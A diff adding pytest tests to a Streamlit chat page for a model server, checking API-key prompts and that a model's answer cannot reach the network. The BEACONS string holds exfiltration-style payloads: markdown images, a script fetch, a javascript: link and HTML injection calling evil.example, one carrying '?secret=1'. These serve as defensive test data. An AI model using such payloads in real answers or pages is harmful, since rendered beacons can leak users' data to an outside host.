@@ -3,15 +3,20 @@
 from __future__ import annotations
 
 from collections.abc import Iterator
+from html.parser import HTMLParser
+from pathlib import Path
 from typing import Any
 
 import pytest
 from streamlit.testing.v1 import AppTest
 
 from mmllm.generation.generator import Generator
+from mmllm.serving.access import Access
 from mmllm.serving.app import create_app
+from mmllm.serving.keys import KeyFile, add_key
 from mmllm.serving.media import Limits
 from mmllm.types import Message, Sample
+from serve.client import Answer
 from tests.support.places import ROOT
 from tests.support.senses import FILES, every_sense
 from tests.support.serving import MODEL, file_bytes, picture, running
@@ -202,3 +207,78 @@ def test_a_file_that_cannot_be_read_is_a_banner(wide_page: AppTest, name: str, d
 
 def test_files_that_are_no_images_are_not_taken(page: AppTest) -> None:
     assert set(page.chat_input("ask").proto.file_type) == {".png", ".jpg", ".jpeg", ".webp", ".gif", ".bmp"}
+
+
+# ---- what an answer may do
+
+BEACONS = """Look: ![x](http://evil.example/b?secret=1) and ![y][r], [click](http://evil.example/c), [r], <http://evil.example/d>
+
+[r]: http://evil.example/e "t"
+
+<img src='http://evil.example/f'> <script>fetch('http://evil.example/g')</script> [j](javascript:alert(1))
+
+```html" onload="x
+<img src=http://evil.example/h>
+```
+
+| a | b |
+|---|---|
+| ![z](//evil.example/i) | **bold** `a[0](x)` |
+
+&lt;img src=http://evil.example/j&gt; \\<img src=k> :material/home: $\\href{http://evil.example/l}{x}$
+"""
+
+
+class Tags(HTMLParser):
+    """All tags of a page and their attributes, and its text."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: set[str] = set()
+        self.text = ""
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes |= {name for name, _ in attrs}
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def test_nothing_in_an_answer_reaches_the_network(page: AppTest, monkeypatch: pytest.MonkeyPatch) -> None:
+    def says(self: Answer) -> Iterator[str]:
+        for letter in BEACONS:
+            self.text += letter
+            yield letter
+
+    monkeypatch.setattr(Answer, "deltas", says)
+    ask(page, "Hi")
+    page.run()  # once as it arrives, once out of the history
+    drawn = [child for child in page.chat_message[1].children.values() if child.type == "html"]
+    assert len(drawn) == 1 and not page.chat_message[1].markdown
+    found = Tags(drawn[0].proto.body)
+    assert found.tags <= {"p", "br", "pre", "code", "table", "thead", "tbody", "tr", "th", "td", "strong", "em"}
+    assert found.attributes <= {"class"}
+    for written in ("![x](http://evil.example/b?secret=1)", "[click](http://evil.example/c)", "<script>", "a[0](x)"):
+        assert written in found.text
+
+
+def test_a_server_with_keys_asks_the_page_for_one(
+    generator: Generator, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    key = add_key(tmp_path / "keys.yaml", "alice")
+    with running(create_app(generator, MODEL, access=Access(keys=KeyFile(tmp_path / "keys.yaml")))) as url:
+        monkeypatch.setenv("MMLLM_SERVER", url)
+        page = AppTest.from_file(str(PAGE), default_timeout=30).run()
+        assert "API key is needed" in page.error[0].value and page.chat_input("ask").disabled
+        page.text_input("key").set_value(key).run()
+        ask(page, "Hi")
+        assert len(turns(page)) == 2 and not page.error
+        monkeypatch.setenv("MMLLM_KEY", key)  # of the page's own, which no browser is shown
+        page = AppTest.from_file(str(PAGE), default_timeout=30).run()
+        assert not page.error and page.text_input("key").value == ""
+        with running(create_app(generator, MODEL, access=Access(keys=KeyFile(tmp_path / "keys.yaml")))) as other:
+            page.text_input("server").set_value(other).run()
+            assert "API key is needed" in page.error[0].value  # nor another server
